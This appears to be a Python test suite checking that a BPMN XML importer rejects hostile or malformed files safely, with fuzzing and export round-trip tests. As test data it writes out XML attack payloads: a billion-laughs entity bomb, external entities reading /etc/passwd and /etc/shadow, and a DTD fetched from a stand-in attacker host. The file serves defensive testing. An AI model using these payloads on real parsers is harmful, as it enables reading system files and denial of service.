"""Hostile or broken input is refused with one error type and a clear message, quickly, without
expanding entities, reading local files or fetching anything; never a traceback of another kind.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from process_models.bpmn import MAX_BYTES, BpmnError, BpmnImport, Outcome, import_bpmn
from process_models.bpmn.names import MODEL
from tests.bpmn_corpus import BPMN_CORPUS

CORPUS = BPMN_CORPUS

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p" name="&lol9;"/></definitions>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">
<process id="p" name="&secret;"/></definitions>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "file:///etc/shadow"> %remote;]>
<d/>
"""

CASES: dict[str, tuple[bytes | str, str]] = {
    "billion laughs": (BILLION_LAUGHS, "DTD"),
    "external entity (file:///etc/passwd)": (EXTERNAL_ENTITY, "DTD"),
    "external DTD over the network": (EXTERNAL_DTD, "DTD"),
    "parameter entity": (PARAMETER_ENTITY, "DTD"),
    "an entity never declared": (
        f'<definitions xmlns="{MODEL}">&xxe;</definitions>'.encode(),
        "undefined entity",
    ),
    "not XML (PNG bytes)": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not XML"),
    "not XML (text)": (b"Process: enrolment -> quote -> commit", "not XML"),
    "a ZIP archive": (b"PK\x03\x04\x14\x00\x00\x00", "ZIP"),
    "JSON": (b'{"nodes": []}', "JSON"),
    "empty input": (b"", "empty"),
    "only whitespace": ("  \n\t ", "empty"),
    "XML that is not BPMN": (b"<html/>", "not a BPMN 2.0 file"),
    "an XHTML page": (b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "<html>"),
    "definitions of another namespace": (
        b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100501/MODEL"/>',
        "not BPMN 2.0",
    ),
    "truncated XML": (f'<definitions xmlns="{MODEL}"><process id="p">'.encode(), "line 1"),
    "mismatched tags": (
        f'<definitions xmlns="{MODEL}">\n<process id="p"></task></definitions>'.encode(),
        "line 2",
    ),
    "bytes that are not UTF-8": (
        b'<?xml version="1.0" encoding="UTF-8"?><definitions>\xff\xfe</definitions>',
        "not well-formed",
    ),
    "an unknown encoding": (b'<?xml version="1.0" encoding="x-nonsense"?><definitions/>', "encoding"),
    "a declaration beyond repair": (
        b'<?xml version="1.0" encodng="UTF-8"?><definitions/>',
        "malformed XML declaration",
    ),
    "an unclosed declaration": (
        b'<?xml version="1.0" encoding="UTF-8"<definitions/>',
        "malformed XML declaration",
    ),
    "deep nesting": (b"<a>" * 5000 + b"</a>" * 5000, "nested more than"),
}


@pytest.mark.parametrize(("data", "expected"), CASES.values(), ids=list(CASES))
def test_bad_input_is_refused_with_one_error_type_and_a_clear_message(
    data: bytes | str, expected: str
) -> None:
    started = time.perf_counter()
    with pytest.raises(BpmnError) as caught:
        import_bpmn(data, source="upload.bpmn")
    elapsed = time.perf_counter() - started
    message = str(caught.value)
    assert expected in message
    assert message.startswith("upload.bpmn: ")
    assert elapsed < 0.5, f"took {elapsed:.2f}s"


def test_no_secret_file_content_reaches_the_message_or_the_model() -> None:
    with pytest.raises(BpmnError) as caught:
        import_bpmn(EXTERNAL_ENTITY)
    assert "root:" not in str(caught.value)
    assert caught.value.line == 2  # where the DOCTYPE is


def test_errors_name_the_line_and_column() -> None:
    with pytest.raises(BpmnError) as caught:
        import_bpmn(f'<definitions xmlns="{MODEL}">\n  <process id="p">\n    <task id="t">\n</definitions>')
    assert caught.value.line == 4 and caught.value.column is not None
    assert "(line 4, column" in str(caught.value)


def test_an_oversized_file_is_refused_before_it_is_parsed() -> None:
    """A 50 MB file: refused on its size alone, at once."""
    head = f'<definitions xmlns="{MODEL}"><process id="p">'.encode()
    data = head + b"<task/>" * ((50 * 1024 * 1024) // 7) + b"</process></definitions>"
    assert len(data) > MAX_BYTES
    started = time.perf_counter()
    with pytest.raises(BpmnError) as caught:
        import_bpmn(data, source="huge.bpmn")
    assert time.perf_counter() - started < 0.5
    assert f"{len(data):,} bytes" in str(caught.value) and "20 MB" in str(caught.value)


def test_an_oversized_text_is_refused_too() -> None:
    with pytest.raises(BpmnError, match="limit"):
        import_bpmn("<" + "a" * (MAX_BYTES + 1))


def test_the_size_limit_can_be_lowered() -> None:
    with pytest.raises(BpmnError, match="1,000-byte"):
        import_bpmn(f'<definitions xmlns="{MODEL}">' + " " * 1000 + "</definitions>", max_bytes=1000)


def test_input_of_the_wrong_type_is_refused() -> None:
    with pytest.raises(BpmnError, match="bytes or text"):
        import_bpmn(42)  # type: ignore[arg-type]


def test_the_missing_space_in_the_xml_declaration_is_repaired_and_reported() -> None:
    """The corpus's 21_bpmnjs_gateway-type-default.bpmn case, decided as lenient."""
    xml = (
        f'<?xml version="1.0"encoding="UTF-8"?>\n<definitions xmlns="{MODEL}"><process id="p"/></definitions>'
    )
    result = import_bpmn(xml.encode())
    assert [m.id for m in result.models] == ["p"]
    (note,) = [i for i in result.report.items if i.kind == "xml"]
    assert note.outcome is Outcome.note and "malformed XML declaration" in note.message


def test_a_text_whose_declaration_names_another_encoding_is_read() -> None:
    xml = (
        f'<?xml version="1.0" encoding="ISO-8859-1"?><definitions xmlns="{MODEL}"><process id="p" '
        'name="Bonus für Käufer"/></definitions>'
    )
    assert import_bpmn(xml).models[0].name == "Bonus für Käufer"


def test_a_file_with_only_pools_and_no_process_is_an_empty_import_not_an_error() -> None:
    xml = (
        f'<definitions xmlns="{MODEL}"><collaboration id="c"><participant id="a" '
        'name="Bank"/></collaboration></definitions>'
    )
    result = import_bpmn(xml)
    assert result.models == []
    assert not result.report.complete and result.report.not_kept[0].element_id == "a"


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300))
def test_random_bytes_give_a_result_or_a_bpmn_error(data: bytes) -> None:
    try:
        result = import_bpmn(data)
    except BpmnError as exc:
        assert "a bug" not in str(exc)
        return
    assert isinstance(result, BpmnImport)


PIECES = [
    f'<definitions xmlns="{MODEL}" xmlns:di="http://www.omg.org/spec/BPMN/20100524/DI">',
    "</definitions>",
    '<process id="p">',
    '<process id="p">',
    "</process>",
    '<subProcess id="s">',
    "</subProcess>",
    '<task id="t"/>',
    '<task id="t">',
    "</task>",
    '<startEvent id="a"/>',
    '<boundaryEvent id="b" attachedToRef="t"/>',
    '<sequenceFlow id="f" sourceRef="a" targetRef="t"/>',
    '<sequenceFlow id="g" sourceRef="t"/>',
    '<laneSet id="ls">',
    "</laneSet>",
    '<lane id="l" name="L">',
    "</lane>",
    "<flowNodeRef>t</flowNodeRef>",
    '<childLaneSet id="c">',
    "</childLaneSet>",
    '<collaboration id="co">',
    "</collaboration>",
    '<participant id="pa" processRef="p"/>',
    '<messageFlow id="m" sourceRef="t" targetRef="pa"/>',
    '<dataInputAssociation id="d"><sourceRef>t</sourceRef></dataInputAssociation>',
    '<textAnnotation id="n">',
    "</textAnnotation>",
    "<text>x</text>",
    '<association id="as" sourceRef="n" targetRef="t"/>',
    '<di:BPMNShape id="sh" bpmnElement="t"/>',
    "<documentation>doc</documentation>",
    "<extensionElements/>",
    "&amp;",
    "<!-- c -->",
    '<?xml version="1.0"?>',
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_random_markup_gives_a_result_or_a_bpmn_error(text: str) -> None:
    try:
        result = import_bpmn(text)
    except BpmnError as exc:
        assert "a bug" not in str(exc)
        return
    assert isinstance(result, BpmnImport)


@pytest.mark.parametrize(
    "name", ["04_miwg_A.4.0.bpmn", "14_miwg_B.2.0-export.bpmn", "17_bpmnjs_complex.bpmn"]
)
def test_real_files_cut_anywhere_give_a_bpmn_error_never_a_crash(name: str) -> None:
    data = (CORPUS / name).read_bytes()
    for cut in range(0, len(data), max(1, len(data) // 60)):
        try:
            import_bpmn(data[:cut])
        except BpmnError as exc:
            assert "a bug" not in str(exc)


@pytest.mark.parametrize("name", ["06_miwg_B.1.0.bpmn", "08_miwg_C.1.0.bpmn"])
def test_real_files_with_broken_references_import_with_a_report(name: str) -> None:
    """Ids renamed at random: references dangle; the import reports instead of crashing."""
    text = (CORPUS / name).read_bytes().decode("iso-8859-1")
    broken = text.replace('id="_', 'id="x_').replace('id="sid-', 'id="y-')
    result = import_bpmn(broken.encode("iso-8859-1"))
    assert result.report.items


TAGS = [
    "process",
    "subProcess",
    "task",
    "userTask",
    "startEvent",
    "endEvent",
    "boundaryEvent",
    "exclusiveGateway",
    "sequenceFlow",
    "laneSet",
    "lane",
    "childLaneSet",
    "flowNodeRef",
    "collaboration",
    "participant",
    "messageFlow",
    "dataObjectReference",
    "dataInputAssociation",
    "sourceRef",
    "targetRef",
    "textAnnotation",
    "association",
    "group",
    "documentation",
    "extensionElements",
    "timerEventDefinition",
    "conditionExpression",
    "transaction",
]
IDS = st.sampled_from(["a", "b", "c", "p", "t", "l"])
ATTRIBUTES = st.dictionaries(
    st.sampled_from(
        ["id", "name", "sourceRef", "targetRef", "processRef", "attachedToRef", "default", "bpmnElement"]
    ),
    IDS,
    max_size=4,
)


def _element(tag: str, attributes: dict[str, str], children: list[str]) -> str:
    attrs = "".join(f' {k}="{v}"' for k, v in attributes.items())
    return f"<{tag}{attrs}>{''.join(children)}</{tag}>"


TREES = st.recursive(
    st.builds(lambda tag, attrs, text: _element(tag, attrs, [text]), st.sampled_from(TAGS), ATTRIBUTES, IDS),
    lambda children: st.builds(_element, st.sampled_from(TAGS), ATTRIBUTES, st.lists(children, max_size=4)),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None)
@given(st.lists(TREES, max_size=4))
def test_random_well_formed_bpmn_imports_or_is_refused_and_what_imports_exports(trees: list[str]) -> None:
    """Structurally odd but well-formed files (duplicate ids, flows to nowhere, lanes in the wrong
    place): a result with a report, and the result exports and reads back the same."""
    from process_models.bpmn import export_bpmn

    xml = f'<definitions xmlns="{MODEL}">{"".join(trees)}</definitions>'
    try:
        result = import_bpmn(xml)
    except BpmnError as exc:
        assert "a bug" not in str(exc)
        return
    if not result.models:
        return
    again = import_bpmn(export_bpmn(result.models))
    assert [m.id for m in again.models] == [m.id for m in result.models]
    for first, second in zip(result.models, again.models, strict=True):
        assert {n.id: (n.kind, n.name, n.lane) for n in first.nodes()} == {
            n.id: (n.kind, n.name, n.lane) for n in second.nodes()
        }
        assert {f.id: (f.source, f.target) for f in first.flows()} == {
            f.id: (f.source, f.target) for f in second.flows()
        }
